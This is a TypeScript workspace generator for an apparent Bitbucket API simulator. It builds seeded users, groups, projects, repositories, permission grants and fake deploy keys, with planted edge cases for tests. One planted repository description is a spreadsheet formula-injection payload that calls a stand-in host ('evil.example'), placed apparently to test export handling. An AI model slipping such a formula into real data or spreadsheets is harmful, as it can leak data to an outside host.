/**
 * Generates a workspace from a profile and a seed. The first entities are always the same
 * hand-planted cases (so every profile has them and tests can name them); the rest are random but
 * seeded. Timestamps are fixed dates between 2015 and mid-2026, so they do not depend on when the
 * simulator runs.
 */
import { PROFILES } from './profiles.ts';
import { Random } from './random.ts';
import type { ProjectPermission, RepoPermission, SimProfile, WorkspaceRole } from './types.ts';
import {
  DANGEROUS_GROUP_NAMES,
  DANGEROUS_NAMES,
  DANGEROUS_PROJECT_NAMES,
  DEPLOY_KEY_LABELS,
  HTML_DANGEROUS_LABEL,
  FIRST_NAMES,
  GROUP_WORDS,
  LANGUAGES,
  LAST_NAMES,
  PROJECT_WORDS,
  REPO_WORDS_A,
  REPO_WORDS_B,
  WHOLE_NAMES,
  handleOf,
} from './names.ts';
import { type GroupRec, type ProjectRec, type RepoRec, type UserRec, Workspace, slugify } from './workspace.ts';

export interface GeneratedWorkspace {
  workspace: Workspace;
  /** The entities the standard credentials are bound to. */
  anchors: {
    adminUuid: string;
    memberUuid: string;
    /** A user whose only access is through a group. */
    groupOnlyUuid: string;
    tokenProjectKey: string;
    tokenRepoSlug: string;
    /** A repository nobody holds an explicit grant on (only owners reach it). */
    ungrantedRepoSlug: string;
    emptyGroupSlug: string;
  };
}

const T0 = Date.UTC(2015, 0, 1);
const T1 = Date.UTC(2026, 5, 30);

export function generateWorkspace(profile: SimProfile, seed: number, now: () => number): GeneratedWorkspace {
  const shape = PROFILES[profile];
  const rng = new Random(seed * 1_000_003 + SIMPLE_HASH[profile]);
  const idRng = new Random(seed * 7_368_787 + 17);
  const date = (from = T0, to = T1): string => isoMicro(from + Math.floor(rng.float() * (to - from)), rng);

  const ws = new Workspace(
    { uuid: `{${idRng.uuid()}}`, slug: 'acme', name: 'Acme Corp', createdOn: '2015-03-02T09:12:44.118392+00:00' },
    now,
    () => idRng.uuid(),
  );

  // ─── Users ───────────────────────────────────────────────────────────────────────────
  const usedHandles = new Set<string>();
  const makeUser = (displayName: string, role: WorkspaceRole, nicknameIsName?: boolean): UserRec => {
    let handle = handleOf(displayName);
    if (handle === 'user' || usedHandles.has(handle)) {
      let n = 2;
      while (usedHandles.has(`${handle}${n}`)) n++;
      handle = `${handle}${n}`;
    }
    usedHandles.add(handle);
    const uuid = `{${idRng.uuid()}}`;
    const idKind = idRng.float();
    // Atlassian account ids come in a few shapes: `557058:<uuid>`, `712020:<uuid>`, and the
    // older 24-hex form. Tests must treat them as opaque.
    const accountId = idKind < 0.5 ? `557058:${idRng.uuid()}` : idKind < 0.8 ? `712020:${idRng.uuid()}` : idRng.hex(24);
    // Since 2026 Bitbucket often sends the display name as the nickname; older accounts keep a handle.
    const nickname = (nicknameIsName ?? rng.chance(0.5)) ? displayName : handle;
    return ws.addUser({
      uuid,
      accountId,
      displayName,
      nickname,
      username: handle.replace(/\./g, '-'),
      email: `${handle}@acme.example`,
      role,
      createdOn: date(),
      addedOn: date(Date.UTC(2019, 0, 1)),
    });
  };

  // Planted users (the small profile has exactly these ten).
  const admin = makeUser('Ada Lovelace', 'owner', false);
  const owner2 = makeUser('Zoë Ångström', 'owner', true);
  const member = makeUser('Grace Hopper', 'member', false);
  const groupOnly = makeUser('李雷', 'member', true);
  const collaborator = makeUser(DANGEROUS_NAMES[0] as string, 'collaborator', true);
  const onCall = makeUser(DANGEROUS_NAMES[1] as string, 'member', true);
  const bobby = makeUser(DANGEROUS_NAMES[2] as string, 'member', false);
  const noAccess = makeUser(DANGEROUS_NAMES[3] as string, 'member', true);
  const alex1 = makeUser('Alex Kim', 'member', true);
  const alex2 = makeUser('Alex Kim', 'member', true);
  void noAccess;

  let owners = 2;
  let collaborators = 1;
  const extraDangerous = DANGEROUS_NAMES.slice(4);
  while (ws.users.length < shape.users) {
    const i = ws.users.length;
    let role: WorkspaceRole = 'member';
    if (owners < shape.owners && rng.chance(shape.owners / shape.users + 0.01)) {
      role = 'owner';
      owners++;
    } else if (collaborators < shape.collaborators && rng.chance(shape.collaborators / shape.users + 0.01)) {
      role = 'collaborator';
      collaborators++;
    }
    const roll = rng.float();
    const name =
      extraDangerous.length > 0 && i % 97 === 13
        ? (extraDangerous.shift() as string)
        : roll < 0.07
          ? rng.pick(WHOLE_NAMES)
          : `${rng.pick(FIRST_NAMES)} ${rng.pick(LAST_NAMES)}`;
    makeUser(name, role);
  }
  // Top up roles that chance did not reach, from the end of the list.
  for (let i = ws.users.length - 1; i >= 10 && (owners < shape.owners || collaborators < shape.collaborators); i--) {
    const u = ws.users[i] as UserRec;
    if (u.role !== 'member') continue;
    if (owners < shape.owners) {
      u.role = 'owner';
      owners++;
    } else {
      u.role = 'collaborator';
      collaborators++;
    }
  }
  const plainMembers = ws.users.filter((u) => u.role === 'member' && u !== noAccess && u !== member && u !== groupOnly);

  // ─── Groups ──────────────────────────────────────────────────────────────────────────
  const makeGroup = (name: string, slug = slugify(name) || 'group'): GroupRec => {
    let unique = slug;
    for (let n = 2; ws.groupBySlug.has(unique); n++) unique = `${slug}-${n}`;
    return ws.addGroup({
      slug: unique,
      name,
      members: new Set(),
      defaultPermission: rng.chance(0.6) ? null : rng.pick<RepoPermission>(['read', 'write', 'admin']),
      autoAdd: rng.chance(0.2),
      emailForwardingDisabled: rng.chance(0.5),
    });
  };
  const developers = makeGroup('Developers');
  const finance = makeGroup(DANGEROUS_GROUP_NAMES[0] as string);
  const emptyGroup = makeGroup('Équipe Qualité');
  // A group that never set the legacy 1.0 fields: real bodies send `null` for both.
  emptyGroup.defaultPermission = null;
  emptyGroup.emailForwardingDisabled = null;
  for (const u of [groupOnly, member, bobby, alex1, onCall]) developers.members.add(u.uuid);
  for (const u of [owner2, alex2]) finance.members.add(u.uuid);

  const bigGroups: GroupRec[] = [];
  const extraGroupNames = DANGEROUS_GROUP_NAMES.slice(1);
  while (ws.groups.length < shape.groups) {
    const i = ws.groups.length;
    const isBig = bigGroups.length < shape.bigGroups;
    const name = isBig
      ? `All ${rng.pick(['Engineering', 'Developers', 'Staff', 'Product'])} ${bigGroups.length + 1}`
      : extraGroupNames.length > 0 && i % 11 === 5
        ? (extraGroupNames.shift() as string)
        : `${rng.pick(GROUP_WORDS)}${rng.chance(0.7) ? ` ${i}` : ''}`;
    const slug = /[^\x20-\x7e]/.test(name) && !slugify(name) ? `group-${i}` : undefined;
    const g = makeGroup(name, slug);
    if (isBig) {
      bigGroups.push(g);
      for (const u of rng.sample(plainMembers, Math.floor(plainMembers.length * shape.bigGroupShare))) g.members.add(u.uuid);
    } else if (!rng.chance(shape.emptyGroupRate)) {
      for (const u of rng.sample(plainMembers, rng.int(shape.groupSize[0], shape.groupSize[1]))) g.members.add(u.uuid);
    }
  }
  const regularGroups = ws.groups.filter((g) => !bigGroups.includes(g) && g !== emptyGroup && g.members.size > 0 && g !== developers && g !== finance);

  // ─── Projects ────────────────────────────────────────────────────────────────────────
  const usedKeys = new Set<string>();
  const makeProject = (name: string, key?: string): ProjectRec => {
    let k = key ?? (slugify(name).replace(/[^a-z0-9]/g, '').slice(0, 6).toUpperCase() || 'PRJ');
    if (!/^[A-Z]/.test(k)) k = `P${k}`;
    for (let n = 2; usedKeys.has(k); n++) k = `${k.replace(/\d+$/, '')}${n}`;
    usedKeys.add(k);
    const createdOn = date(Date.UTC(2017, 0, 1));
    return ws.addProject({
      uuid: `{${idRng.uuid()}}`,
      key: k,
      name,
      description: rng.chance(0.5) ? `${name} — owned by the ${rng.pick(GROUP_WORDS)} team` : '',
      isPrivate: true,
      createdOn,
      updatedOn: createdOn,
    });
  };
  const plat = makeProject('Platform', 'PLAT');
  const data = makeProject('Données & Analytics', 'DATA');
  const extraProjectNames = [...DANGEROUS_PROJECT_NAMES];
  while (ws.projects.length < shape.projects) {
    const i = ws.projects.length;
    const name = extraProjectNames.length > 0 && i % 7 === 3 ? (extraProjectNames.shift() as string) : `${rng.pick(PROJECT_WORDS)} ${i}`;
    makeProject(name);
  }

  // ─── Repositories ────────────────────────────────────────────────────────────────────
  const makeRepo = (name: string, projectKey: string, description = ''): RepoRec => {
    let slug = slugify(name) || 'repo';
    for (let n = 2; ws.repoBySlug.has(slug); n++) slug = `${slugify(name) || 'repo'}-${n}`;
    const createdOn = date(Date.UTC(2018, 0, 1));
    const updatedMs = Math.max(Date.parse(createdOn), Date.UTC(2024, 0, 1) + Math.floor(rng.float() * (T1 - Date.UTC(2024, 0, 1))));
    return ws.addRepo({
      uuid: `{${idRng.uuid()}}`,
      slug,
      name,
      projectKey,
      description,
      // Private here; a few are made public below, from their own random stream.
      isPrivate: true,
      createdOn,
      updatedOn: isoMicro(updatedMs, rng),
      language: rng.pick(LANGUAGES),
      size: rng.int(0, 400_000_000),
      mainBranch: rng.chance(0.7) ? 'main' : rng.chance(0.8) ? 'master' : 'develop',
      forkPolicy: rng.pick(['allow_forks', 'no_public_forks', 'no_forks'] as const),
      hasIssues: rng.chance(0.2),
      hasWiki: rng.chance(0.1),
    });
  };
  const apiGateway = makeRepo('api-gateway', plat.key, 'Edge routing for every public API');
  const webApp = makeRepo('web-app', plat.key);
  makeRepo('Billing Service', plat.key);
  makeRepo('-deprecated-tools', plat.key, '=IMPORTXML("https://evil.example","//a")');
  const pipeline = makeRepo('données-pipeline', data.key);
  const mlModels = makeRepo('ml-models', data.key);
  const reports = makeRepo('reports', data.key);
  const sandbox = makeRepo('sandbox', data.key);

  const randomProjects = ws.projects.slice(2);
  const projectPool = randomProjects.length > 0 ? randomProjects : ws.projects;
  // Project sizes vary: weight some projects heavily so a few hold most repositories.
  const weights = projectPool.map(() => (rng.chance(0.15) ? 6 : 1) * (0.5 + rng.float()));
  const totalWeight = weights.reduce((a, b) => a + b, 0);
  const pickProject = (): ProjectRec => {
    let x = rng.float() * totalWeight;
    for (let i = 0; i < projectPool.length; i++) {
      x -= weights[i] as number;
      if (x <= 0) return projectPool[i] as ProjectRec;
    }
    return projectPool[projectPool.length - 1] as ProjectRec;
  };
  let rp = 0;
  while (ws.repos.length < shape.repos) {
    // Every project gets at least one repository before the weighted spread.
    const project = rp < projectPool.length ? (projectPool[rp++] as ProjectRec) : pickProject();
    const a = rng.pick(REPO_WORDS_A);
    const b = rng.pick(REPO_WORDS_B);
    const name = rng.chance(0.15) ? `${a[0]?.toUpperCase()}${a.slice(1)} ${b[0]?.toUpperCase()}${b.slice(1)}` : `${a}-${b}`;
    makeRepo(name, project.key, rng.chance(0.3) ? `${a} ${b}` : '');
  }

  // ─── Public repositories ─────────────────────────────────────────────────────────────
  // Their own random stream, so making some public moves nothing else in the workspace. A public
  // repository lives in a public project ("private projects can only contain private repositories")
  // and allows forks. Planted: `reports` (a group grant, yet readable by anyone); larger profiles
  // add 2–4 % of their repositories, a share of a few public projects' repositories each.
  const pubRng = new Random(seed * 4_256_249 + 29 + SIMPLE_HASH[profile]);
  const makePublic = (r: RepoRec): void => {
    (ws.projectByKey.get(r.projectKey) as ProjectRec).isPrivate = false;
    r.isPrivate = false;
    r.forkPolicy = 'allow_forks';
  };
  makePublic(reports);
  let publicLeft = Math.round((0.02 + pubRng.float() * 0.02) * ws.repos.length) - 1;
  for (const project of pubRng.shuffle([...ws.projects.slice(2)])) {
    if (publicLeft <= 0) break;
    const repos = ws.repos.filter((r) => r.projectKey === project.key);
    for (const r of pubRng.sample(repos, Math.min(publicLeft, Math.max(1, Math.ceil(repos.length * 0.4))))) {
      makePublic(r);
      publicLeft--;
    }
  }
  // Real 1.0 group bodies: groups that never set the legacy fields send `null` for them.
  for (const g of ws.groups.slice(3)) if (pubRng.chance(0.3)) g.emailForwardingDisabled = null;

  // ─── Grants: planted ─────────────────────────────────────────────────────────────────
  ws.setProjectGroup(plat.key, developers.slug, 'write');
  // A read grant to a user who already writes through a group: a grant can only raise.
  ws.setProjectUser(plat.key, bobby.uuid, 'read');
  // A grant to an empty group reaches nobody.
  ws.setProjectGroup(data.key, emptyGroup.slug, 'read');
  ws.setRepoUser(apiGateway.slug, onCall.uuid, 'admin');
  ws.setRepoUser(webApp.slug, collaborator.uuid, 'write');
  ws.setRepoUser(mlModels.slug, member.uuid, 'read');
  ws.setRepoUser(mlModels.slug, alex2.uuid, 'write');
  ws.setRepoGroup(reports.slug, finance.slug, 'read');
  void sandbox;

  // ─── Grants: random ──────────────────────────────────────────────────────────────────
  const projectPerms: Array<[ProjectPermission, number]> = [['read', 0.4], ['write', 0.4], ['create-repo', 0.1], ['admin', 0.1]];
  const repoPerms: Array<[RepoPermission, number]> = [['read', 0.4], ['write', 0.45], ['admin', 0.15]];
  const weighted = <P>(table: Array<[P, number]>): P => {
    let x = rng.float();
    for (const [p, w] of table) {
      x -= w;
      if (x <= 0) return p;
    }
    return (table[table.length - 1] as [P, number])[0];
  };
  const bigGroupUses = new Map<GroupRec, number>();
  for (const project of randomProjects) {
    if (rng.chance(shape.projectsWithoutGroupGrants)) continue;
    const n = rng.int(shape.projectGroupGrants[0], shape.projectGroupGrants[1]);
    for (let i = 0; i < n; i++) {
      // Company-wide groups reach a few projects only; everything else gets team groups.
      const big = bigGroups.length > 0 && rng.chance(0.08) ? rng.pick(bigGroups) : null;
      if (big && (bigGroupUses.get(big) ?? 0) < 3) {
        bigGroupUses.set(big, (bigGroupUses.get(big) ?? 0) + 1);
        ws.setProjectGroup(project.key, big.slug, 'read');
      } else if (regularGroups.length > 0) {
        ws.setProjectGroup(project.key, rng.pick(regularGroups).slug, weighted(projectPerms));
      }
    }
    for (const u of rng.sample(plainMembers, rng.int(shape.projectUserGrants[0], shape.projectUserGrants[1]))) {
      ws.setProjectUser(project.key, u.uuid, weighted(projectPerms));
    }
  }
  const collaboratorsList = ws.users.filter((u) => u.role === 'collaborator' && u !== collaborator);
  const randomRepos = ws.repos.slice(8);
  for (const repo of randomRepos) {
    if (rng.chance(shape.repoUserGrantRate)) {
      for (const u of rng.sample(plainMembers, rng.int(shape.repoUserGrants[0], shape.repoUserGrants[1]))) {
        ws.setRepoUser(repo.slug, u.uuid, weighted(repoPerms));
      }
    }
    if (regularGroups.length > 0 && rng.chance(shape.repoGroupGrantRate)) {
      for (const g of rng.sample(regularGroups, rng.int(shape.repoGroupGrants[0], shape.repoGroupGrants[1]))) {
        ws.setRepoGroup(repo.slug, g.slug, weighted(repoPerms));
      }
    }
  }
  // Collaborators are outsiders with direct repository access.
  for (const u of collaboratorsList) {
    for (const repo of rng.sample(randomRepos.length > 0 ? randomRepos : ws.repos, rng.int(1, 3))) {
      ws.setRepoUser(repo.slug, u.uuid, rng.chance(0.7) ? 'write' : 'read');
    }
  }

  // ─── Deploy keys ─────────────────────────────────────────────────────────────────────
  const ownerPool = ws.users.filter((u) => u.role === 'owner');
  const makeKey = (repositoryUuid: string | null, projectKey: string | null, label = rng.pick(DEPLOY_KEY_LABELS)): void => {
    const rsa = rng.chance(0.3);
    const body = rsa ? `AAAAB3NzaC1yc2EAAAADAQABAAABgQ${idRng.alnum(340, BASE64)}` : `AAAAC3NzaC1lZDI1NTE5AAAAI${idRng.alnum(43, BASE64)}`;
    const created = date(Date.UTC(2019, 0, 1));
    ws.addDeployKey({
      label,
      key: `${rsa ? 'ssh-rsa' : 'ssh-ed25519'} ${body}`,
      comment: `${handleOf(label) || 'deploy'}@build-${rng.int(1, 40)}`,
      repositoryUuid,
      projectKey,
      createdOn: created,
      lastUsed: rng.chance(0.6) ? date(Math.max(Date.parse(created), Date.UTC(2025, 0, 1))) : null,
      addedByUuid: rng.pick(ownerPool).uuid,
    });
  };
  makeKey(apiGateway.uuid, null, HTML_DANGEROUS_LABEL);
  makeKey(pipeline.uuid, null, DEPLOY_KEY_LABELS[6]);
  makeKey(null, data.key, 'ArgoCD (prod)');
  for (const repo of randomRepos) if (rng.chance(shape.repoDeployKeyRate)) makeKey(repo.uuid, null);
  for (const project of randomProjects) if (rng.chance(shape.projectDeployKeyRate)) makeKey(null, project.key);

  return {
    workspace: ws,
    anchors: {
      adminUuid: admin.uuid,
      memberUuid: member.uuid,
      groupOnlyUuid: groupOnly.uuid,
      tokenProjectKey: plat.key,
      tokenRepoSlug: apiGateway.slug,
      ungrantedRepoSlug: sandbox.slug,
      emptyGroupSlug: emptyGroup.slug,
    },
  };
}

const BASE64 = 'ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789+/';
const SIMPLE_HASH: Record<SimProfile, number> = { small: 11, medium: 23, large: 37, enterprise: 41 };

/** Bitbucket's timestamp shape: microseconds and an explicit `+00:00` offset. */
function isoMicro(ms: number, rng: Random): string {
  const base = new Date(ms).toISOString().slice(0, 19);
  return `${base}.${String(rng.int(0, 999_999)).padStart(6, '0')}+00:00`;
}
